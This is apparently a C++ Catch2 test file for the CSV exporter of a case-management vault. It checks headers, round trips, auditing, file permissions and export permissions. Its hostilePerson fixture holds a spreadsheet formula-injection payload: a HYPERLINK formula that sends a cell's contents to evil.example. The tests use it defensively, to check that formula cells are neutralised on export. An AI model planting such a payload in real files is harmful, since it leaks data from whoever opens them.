#include "CsvTestSupport.h"
#include "csv/CsvExporter.h"
#include "csv/CsvReader.h"
#include "people/PersonService.h"
#include "util/Error.h"

#include <QFile>
#include <QFileInfo>
#include <catch2/catch.hpp>

using namespace amparo;
using namespace amparo::csv;
using amparo::test::CsvFixture;
using amparo::test::importFixture;

namespace {

QByteArray exported(Session& session, CsvKind kind, const amparo::test::TempFolder& folder)
{
    const QString path = folder.path(csvKindName(kind) + QStringLiteral(".csv"));
    CsvExporter(session).exportToFile(kind, path);
    return amparo::test::readAll(path);
}

// A person whose every text looks like a formula to a spreadsheet.
Person hostilePerson()
{
    Person p;
    p.externalId = QStringLiteral("@EVIL-1");
    p.fullName = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
    p.roles = {QStringLiteral("witness")};
    p.phone = QStringLiteral("+44 20 7946 0000");
    p.notes = QStringLiteral("-2+3 and then '=quoted");
    return p;
}

// The rows of a file without one column (values the vault assigns).
std::vector<QStringList> withoutColumn(const QByteArray& bytes, const QString& column)
{
    const CsvTable table = CsvReader::parse(bytes, QStringLiteral("t.csv"));
    const qsizetype index = table.header.cells.indexOf(column);
    std::vector<QStringList> rows{table.header.cells};
    for (const CsvRow& row : table.rows)
        rows.push_back(row.cells);
    for (QStringList& row : rows)
        row.removeAt(index);
    return rows;
}

} // namespace

TEST_CASE("exported files carry exactly the canonical headers")
{
    CsvFixture f;
    auto bea = f.caseworker();
    amparo::test::TempFolder folder;
    CHECK(exported(*bea, CsvKind::People, folder) ==
          QByteArray("\xEF\xBB\xBF"
                     "external_id,full_name,pseudonym,sex,birth_date,nationality,country,roles,"
                     "phone,email,notes\r\n"));
    CHECK(exported(*bea, CsvKind::Cases, folder) ==
          QByteArray("\xEF\xBB\xBF"
                     "external_id,reference,title,programme,country,status,priority,opened_on,"
                     "summary,victims\r\n"));
}

TEST_CASE("formula cells are neutralised on export and restored on import")
{
    amparo::test::TempFolder folder;
    QByteArray bytes;
    {
        CsvFixture f;
        auto bea = f.caseworker();
        PersonService(*bea).create(hostilePerson());
        bytes = exported(*bea, CsvKind::People, folder);
    }
    CHECK(bytes.contains("'@EVIL-1,\"'=HYPERLINK("));
    CHECK(bytes.contains(",'+44 20 7946 0000,"));
    CHECK(bytes.contains(",'-2+3 and then '=quoted\r\n"));
    const CsvTable table = CsvReader::parse(bytes, QStringLiteral("t.csv"));
    for (const QString& cell : table.rows.at(0).cells) {
        CAPTURE(cell);
        CHECK_FALSE((cell.startsWith(QLatin1Char('=')) || cell.startsWith(QLatin1Char('+')) ||
                     cell.startsWith(QLatin1Char('-')) || cell.startsWith(QLatin1Char('@'))));
    }

    CsvFixture other;
    auto bea = other.caseworker();
    const QString path = folder.path(QStringLiteral("people.csv"));
    REQUIRE(CsvImporter(*bea).runFile(CsvKind::People, path, ImportMode::Commit).committed);
    const Person back = *PersonService(*bea).findByExternalId(QStringLiteral("@EVIL-1"));
    const Person original = hostilePerson();
    CHECK(back.fullName == original.fullName);
    CHECK(back.phone == original.phone);
    CHECK(back.notes == original.notes);
}

TEST_CASE("export then import into a new vault then export gives the same files")
{
    amparo::test::TempFolder first;
    amparo::test::TempFolder second;
    QByteArray people;
    QByteArray cases;
    {
        CsvFixture f;
        auto bea = f.caseworker();
        REQUIRE(importFixture(*bea, CsvKind::People, "people-spreadsheet.csv").committed);
        PersonService(*bea).create(hostilePerson());
        REQUIRE(importFixture(*bea, CsvKind::Cases, "cases-spreadsheet.csv").committed);
        people = exported(*bea, CsvKind::People, first);
        cases = exported(*bea, CsvKind::Cases, first);
    }
    CsvFixture f;
    auto bea = f.caseworker();
    const ImportReport peopleReport = CsvImporter(*bea).runFile(
        CsvKind::People, first.path(QStringLiteral("people.csv")), ImportMode::Commit);
    REQUIRE(peopleReport.problems.empty());
    const ImportReport casesReport = CsvImporter(*bea).runFile(
        CsvKind::Cases, first.path(QStringLiteral("cases.csv")), ImportMode::Commit);
    REQUIRE(casesReport.problems.empty());
    CHECK(casesReport.created == 3);

    // References survive; pseudonyms are the new vault's own.
    CHECK(exported(*bea, CsvKind::Cases, second) == cases);
    const QByteArray peopleAgain = exported(*bea, CsvKind::People, second);
    CHECK(withoutColumn(peopleAgain, QStringLiteral("pseudonym")) ==
          withoutColumn(people, QStringLiteral("pseudonym")));
    CHECK(peopleAgain.size() == people.size());
}

TEST_CASE("every export is audited with its kind and row count")
{
    CsvFixture f;
    auto bea = f.caseworker();
    REQUIRE(importFixture(*bea, CsvKind::People, "people-spreadsheet.csv").committed);
    amparo::test::TempFolder folder;
    exported(*bea, CsvKind::People, folder);
    const audit::AuditEntry entry = bea->audit().latest(1).at(0);
    CHECK(entry.action == QStringLiteral("export.csv"));
    CHECK(entry.entityType == QStringLiteral("person"));
    CHECK(entry.actor == QStringLiteral("bea"));
    const auto rows =
        std::find_if(entry.changes.begin(), entry.changes.end(),
                     [](const audit::FieldChange& c) { return c.field == QStringLiteral("rows"); });
    REQUIRE(rows != entry.changes.end());
    CHECK(rows->after == QStringLiteral("4"));
    CHECK(QFileInfo(folder.path(QStringLiteral("people.csv"))).permissions() ==
          (QFile::ReadOwner | QFile::WriteOwner | QFile::ReadUser | QFile::WriteUser));
}

TEST_CASE("a user who may not export case data gets no file and no audit entry")
{
    CsvFixture f;
    {
        auto admin = f.vault.openAdmin();
        UserAdministration(*admin).addUser(QStringLiteral("fin"), QString(), {auth::Role::Finance},
                                           amparo::test::secret(QStringLiteral("finance pass")),
                                           amparo::test::fastKdf());
    }
    auto finance = f.vault.open(QStringLiteral("fin"), QStringLiteral("finance pass"));
    const qint64 before = finance->audit().count();
    amparo::test::TempFolder folder;
    const QString path = folder.path(QStringLiteral("people.csv"));
    REQUIRE_THROWS_WITH(CsvExporter(*finance).exportToFile(CsvKind::People, path),
                        Catch::Contains("export case data"));
    CHECK_FALSE(QFileInfo::exists(path));
    CHECK(finance->audit().count() == before);
}
